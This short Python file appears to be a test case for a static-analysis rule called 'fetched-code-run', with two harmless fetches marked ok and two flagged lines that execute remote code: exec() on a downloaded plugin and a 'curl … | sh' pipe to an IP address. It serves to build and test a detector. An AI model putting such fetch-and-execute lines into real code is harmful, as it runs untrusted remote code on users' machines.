import subprocess
import urllib.request

import requests

# ok: fetched-code-run
rows = requests.get("https://x.example/data.json").json()
# ok: fetched-code-run
urllib.request.urlretrieve("https://x.example/weights.bin", "weights.bin")
# ruleid: fetched-code-run
exec(requests.get("https://x.example/plugin.py").text)
# ruleid: fetched-code-run
subprocess.run("curl -s http://203.0.113.9/run.sh | sh", shell=True)
